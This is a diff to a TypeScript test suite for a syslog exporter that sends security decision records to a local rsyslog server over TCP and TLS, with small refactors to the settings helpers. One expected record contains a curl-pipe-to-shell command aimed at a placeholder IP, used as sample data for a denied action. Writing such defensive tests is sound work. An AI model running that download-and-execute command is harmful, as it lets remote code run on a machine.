@@ -4,8 +4,10 @@ import { examples } from "@pahlevan/exporters/examples.ts";
 import { Outgoing } from "@pahlevan/exporters/record.ts";
 import { syslog } from "@pahlevan/exporters/siem/syslog/sink.ts";
 import { Authority, type Certificate } from "../../certificates.ts";
-import { around, settingsOf } from "./around.ts";
+import { aroundOf, settingsOf } from "../../exporters/settings-of.ts";
 import { Rsyslog, rsyslogMissing, type ServerTls } from "./syslog/rsyslog.ts";
+
+const around = aroundOf();
 
 const time = "2026-11-22T14:03:07.123456789Z";
 const never = new AbortController().signal;
@@ -18,7 +20,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
   it("reads each field of the structured data, and the sentence", async () => {
     await using rsyslog = await Rsyslog.start();
     const sink = syslog.make(
-      settingsOf(syslog, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
+      settingsOf(syslog.keys, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
       around,
     );
     const [decision, ...others] = examples(time);
@@ -32,7 +34,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
       msgid: "decision",
     });
     expect(first?.data["pahlevan@32473"]).toMatchObject({
-      ...{ id: "example-1", time, action: "deny", cluster: "prod", "process.pid": "4242" },
+      ...{ id: "example-1", time, action: "deny", cluster: "west", "process.pid": "4242" },
       object: object.replace("\n", "\\x0a"),
       "process.args": JSON.stringify(["sh", "-c", 'curl "http://203.0.113.9/x" | sh']),
     });
@@ -44,7 +46,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
     await using rsyslog = await Rsyslog.start();
     const url = `tcp://127.0.0.1:${rsyslog.port}`;
     for (const format of ["json", "cef"]) {
-      const sink = syslog.make(settingsOf(syslog, { url, format }), around);
+      const sink = syslog.make(settingsOf(syslog.keys, { url, format }), around);
       await sink.send(records(format).slice(0, 1), never);
       await sink.close();
     }
@@ -58,7 +60,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
   it("gets all that is sent after it was away, on the same sink", async () => {
     await using rsyslog = await Rsyslog.start();
     const sink = syslog.make(
-      settingsOf(syslog, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
+      settingsOf(syslog.keys, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
       around,
     );
     await sink.send(records("before"), never);
@@ -92,7 +94,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
       const { certFile, keyFile } = client;
       const files = { "ca-file": server.ca, "cert-file": certFile, "key-file": keyFile };
       const url = `tls://localhost:${rsyslog.port}`;
-      const sink = syslog.make(settingsOf(syslog, { url, ...files }), around);
+      const sink = syslog.make(settingsOf(syslog.keys, { url, ...files }), around);
       expect(await sink.check(never)).toContain("by TLS");
       expect(await sink.send(records("a"), never)).toMatchObject({ sent: 6 });
       await expect.poll(() => ids(rsyslog)).toHaveLength(6);
@@ -106,7 +108,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
     it("refuses who has none, and we say so", async () => {
       await using rsyslog = await Rsyslog.start(server);
       const url = `tls://localhost:${rsyslog.port}`;
-      const sink = syslog.make(settingsOf(syslog, { url, "ca-file": server.ca }), around);
+      const sink = syslog.make(settingsOf(syslog.keys, { url, "ca-file": server.ca }), around);
       // It looks at certificates after we think that we are through: on a slow day after a while.
       await expect
         .poll(() => sink.check(never).catch((error: unknown) => String(error)))
@@ -118,7 +120,7 @@ describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
     it("is refused where we do not know who signed its certificate", async () => {
       await using rsyslog = await Rsyslog.start(server);
       const sink = syslog.make(
-        settingsOf(syslog, { url: `tls://localhost:${rsyslog.port}` }),
+        settingsOf(syslog.keys, { url: `tls://localhost:${rsyslog.port}` }),
         around,
       );
       const report = await sink.send(records("a"), never);
